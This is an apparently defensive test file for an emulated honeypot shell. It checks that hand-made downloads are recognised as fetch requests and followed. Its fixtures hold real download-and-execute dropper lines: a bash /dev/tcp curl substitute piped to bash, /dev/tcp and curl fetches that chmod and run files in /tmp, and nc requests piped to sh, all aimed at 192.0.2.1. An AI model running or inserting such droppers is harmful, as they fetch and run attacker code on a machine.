# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501 - scripts stand as loaders write them
"""Downloads that a script makes by hand."""

from __future__ import annotations

import pytest
from tests.shell.conftest import make

from mead.shell import Executed, Offer, Shell
from mead.shell.conversation import page_asked_for

CURL = r"""
function __curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}
  HOST=${server//:*}
  PORT=${server//*:}
  [[ x"${HOST}" == x"${PORT}" ]] && PORT=80
  exec 3<>/dev/tcp/${HOST}/$PORT
  echo -en "GET ${DOC} HTTP/1.0\r\nHost: ${HOST}\r\nUser-Agent: own\r\n\r\n" >&3
  (while read line; do
   [[ "$line" == $'\r' ]] && break
  done && cat) <&3
  exec 3>&-
}
__curl http://192.0.2.1/dir/x.sh | bash
"""
PLAIN = "exec 6<>/dev/tcp/192.0.2.1/60107 && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/x && chmod +x /tmp/x && /tmp/x"
SCRIPT = b"curl http://192.0.2.1/arm7 -o /tmp/a; chmod +x /tmp/a; /tmp/a\n"


def _offers(effects: tuple[object, ...]) -> list[str]:
    return [effect.url for effect in effects if isinstance(effect, Offer)]


@pytest.mark.parametrize("name", ["server-x86_64", "camera-armv7l"])
def test_a_page_that_bash_asks_for_is_an_offer_and_followed(name: str) -> None:
    shell = make(name)
    reply = shell.run(CURL.encode())
    assert "http://192.0.2.1/dir/x.sh" in _offers(reply.effects)
    assert "own" in [effect.user_agent for effect in reply.effects if isinstance(effect, Offer)]
    followed = shell.deliver("http://192.0.2.1/dir/x.sh", SCRIPT).effects
    assert _offers(followed) == ["http://192.0.2.1/arm7"]


def test_a_page_may_be_asked_for_without_a_version(server: Shell) -> None:
    assert _offers(server.run(PLAIN.encode()).effects)[-1] == "http://192.0.2.1:60107/linux"
    effects = server.deliver("http://192.0.2.1:60107/linux", b"\x7fELF" + bytes(60)).effects
    assert [effect.data for effect in effects if isinstance(effect, Executed)] in (
        [],
        [b"\x7fELF" + bytes(60)],
    )
    assert server.run(b"cat /tmp/x").output == b"\x7fELF" + bytes(60)


@pytest.mark.parametrize("name", ["server-x86_64", "camera-armv7l"])
@pytest.mark.parametrize(
    ("line", "body"),
    [
        ("printf 'GET /s HTTP/1.0\\r\\n\\r\\n' | nc 192.0.2.1 80 | sed '1,/^\\r*$/d' | sh", SCRIPT),
        ("echo 'GET /s' | nc 192.0.2.1 80 | sh", SCRIPT),
        ("(echo 'GET /s'; sleep 3) | nc 192.0.2.1 80 > /tmp/s; sh /tmp/s", SCRIPT),
    ],
)
def test_nc_may_ask_for_a_page(name: str, line: str, body: bytes) -> None:
    shell = make(name)
    assert _offers(shell.run(line.encode()).effects) == ["http://192.0.2.1/s"]
    assert _offers(shell.deliver("http://192.0.2.1/s", body).effects) == ["http://192.0.2.1/arm7"]


def test_who_asks_for_nothing_gets_what_is_said(server: Shell) -> None:
    assert _offers(server.run(b"exec 3<>/dev/tcp/192.0.2.1/99; cat <&3 | bash").effects) == [
        "tcp://192.0.2.1:99"
    ]
    assert _offers(server.deliver("tcp://192.0.2.1:99", SCRIPT).effects) == ["http://192.0.2.1/arm7"]


def test_what_is_no_request_is_none() -> None:
    for sent in (b"", b"GET", b"GET x\n", b"\x16\x03\x01", b"SSH-2.0-x\r\n", b"GETS /x\n"):
        assert page_asked_for("192.0.2.1", "80", sent) is None
    page = page_asked_for("192.0.2.1", "8080", b"POST /x?y HTTP/1.1\r\nUser-Agent: a b\r\n\r\n")
    assert page is not None
    assert (page.url, page.user_agent) == ("http://192.0.2.1:8080/x?y", "a b")
    assert page.answer(b"z").endswith(b"\r\n\r\nz")
